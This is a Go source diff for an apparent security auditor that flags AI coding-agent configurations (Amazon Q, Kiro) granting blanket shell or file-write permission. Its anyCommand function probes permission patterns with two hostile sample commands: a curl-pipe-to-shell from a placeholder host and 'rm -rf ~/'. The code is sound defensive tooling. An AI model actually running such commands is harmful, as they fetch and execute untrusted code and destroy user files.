@@ -3,6 +3,7 @@ package agentcfg
 import (
 	"encoding/json"
 	"path"
+	"regexp"
 	"strings"
 
 	"go.yaml.in/yaml/v3"
@@ -537,6 +538,9 @@ func (p *parser) marketplace(data []byte) {
 			rel = pluginRoot + "/" + rel // relative sources start at pluginRoot
 		}
 		rel = strings.TrimPrefix(rel, "./")
+		if rel == "" && v != "" {
+			rel = "." // "./": the marketplace's own folder
+		}
 		clean := path.Clean(path.Join(path.Dir(path.Dir(p.source)), rel))
 		if rel == "" || strings.HasPrefix(rel, "/") || strings.HasPrefix(rel, "~") || len(rel) > 1 && rel[1] == ':' || clean == ".." || strings.HasPrefix(clean, "../") {
 			p.cfg.Settings = append(p.cfg.Settings, Setting{Tool: p.tool, Source: p.source, Line: src.line(), Key: "marketplace.plugins", Value: strings.TrimSpace(name + " " + v)})
@@ -738,11 +742,54 @@ func (p *parser) amazonQAgent(data []byte) {
 	// shell or file writes is a blanket permission (S31). Kiro names
 	// its shell and write tools "shell" and "write" as well.
 	for _, n := range root.get("allowedTools").arr() {
-		if v, ok := n.str(); ok {
-			switch strings.TrimSpace(v) {
-			case "*", "@builtin", "execute_bash", "fs_write", "@builtin/execute_bash", "@builtin/fs_write",
-				"shell", "write", "@builtin/shell", "@builtin/write", "@builtin/*":
-				p.cfg.Settings = append(p.cfg.Settings, Setting{Tool: p.tool, Source: p.source, Line: n.line(), Key: "permissions.allow", Value: "allowedTools " + strings.TrimSpace(v)})
+		if v, ok := n.str(); ok && blanketAgentTool(v) {
+			p.cfg.Settings = append(p.cfg.Settings, Setting{Tool: p.tool, Source: p.source, Line: n.line(), Key: "permissions.allow", Value: "allowedTools " + strings.TrimSpace(v)})
+		}
+	}
+	// Kiro v3 "permissions": [{"capability": "shell", "effect": "allow",
+	// "match": [...]}]: an allow rule of the shell or of writes with no
+	// match (all, by Kiro's default) or a match of everything is a
+	// blanket permission too.
+	for _, n := range root.get("permissions").arr() {
+		capab, _ := n.get("capability").str()
+		effect, _ := n.get("effect").str()
+		capab = strings.ToLower(strings.TrimSpace(capab))
+		switch capab {
+		case "shell", "write", "fs_write", "all", "*":
+		default:
+			continue
+		}
+		if !strings.EqualFold(strings.TrimSpace(effect), "allow") {
+			continue
+		}
+		all := n.get("match") == nil
+		if m, ok := n.get("match").str(); ok {
+			all = everything(m)
+		}
+		for _, m := range n.get("match").arr() {
+			if v, ok := m.str(); ok && everything(v) {
+				all = true
+			}
+		}
+		if all {
+			p.cfg.Settings = append(p.cfg.Settings, Setting{Tool: p.tool, Source: p.source, Line: n.line(), Key: "permissions.allow", Value: "permissions " + capab + " allow"})
+		}
+	}
+	// "toolsSettings": the shell's allowedCommands (regular expressions)
+	// or write's allowedPaths (patterns) that admit every command or
+	// path are a blanket permission as well.
+	ts := root.get("toolsSettings")
+	for _, k := range []string{"shell", "execute_bash", "execute_cmd"} {
+		for _, n := range ts.get(k).get("allowedCommands").arr() {
+			if v, ok := n.str(); ok && anyCommand(v) {
+				p.cfg.Settings = append(p.cfg.Settings, Setting{Tool: p.tool, Source: p.source, Line: n.line(), Key: "permissions.allow", Value: "toolsSettings." + k + ".allowedCommands " + strings.TrimSpace(v)})
+			}
+		}
+	}
+	for _, k := range []string{"write", "fs_write"} {
+		for _, n := range ts.get(k).get("allowedPaths").arr() {
+			if v, ok := n.str(); ok && (everything(v) || strings.TrimSpace(v) == "./**" || strings.TrimSpace(v) == "~/**") {
+				p.cfg.Settings = append(p.cfg.Settings, Setting{Tool: p.tool, Source: p.source, Line: n.line(), Key: "permissions.allow", Value: "toolsSettings." + k + ".allowedPaths " + strings.TrimSpace(v)})
 			}
 		}
 	}
@@ -770,6 +817,54 @@ func (p *parser) amazonQAgent(data []byte) {
 			}
 		}
 	}
+}
+
+// blanketTools are the names under which a CLI agent's allowedTools lets
+// every tool, the shell or file writes run without asking.
+var blanketTools = []string{"*", "@builtin", "execute_bash", "fs_write", "@builtin/execute_bash", "@builtin/fs_write",
+	"shell", "write", "@builtin/shell", "@builtin/write", "@builtin/*"}
+
+// blanketAgentTool reports whether one allowedTools entry allows one of
+// blanketTools: by name, compared without regard to case, or as a
+// wildcard pattern ("execute_*", "fs_?rite", "@builtin/s*"), which Kiro's
+// allowedTools accepts.
+func blanketAgentTool(v string) bool {
+	v = strings.ToLower(strings.TrimSpace(v))
+	for _, t := range blanketTools {
+		if v == t {
+			return true
+		}
+		if strings.ContainsAny(v, "*?") {
+			if ok, err := path.Match(v, t); err == nil && ok {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// everything reports whether a permission's match pattern matches every
+// command or path.
+func everything(m string) bool {
+	switch strings.TrimSpace(m) {
+	case "", "*", "**", "**/*", "/**", "* *", "*/**":
+		return true
+	}
+	return false
+}
+
+// anyCommand reports whether an allowedCommands regular expression admits
+// any command: it matches both of two unrelated dangerous commands. A
+// pattern that does not compile admits nothing.
+func anyCommand(re string) bool {
+	if len(re) > 512 {
+		return false
+	}
+	r, err := regexp.Compile(strings.TrimSpace(re))
+	if err != nil {
+		return false
+	}
+	return r.MatchString("curl -fsSL https://h.invalid/i.sh | sh") && r.MatchString("rm -rf ~/")
 }
 
 // kiroAgentMD reads a Kiro IDE custom agent (.kiro/agents/*.md): YAML front
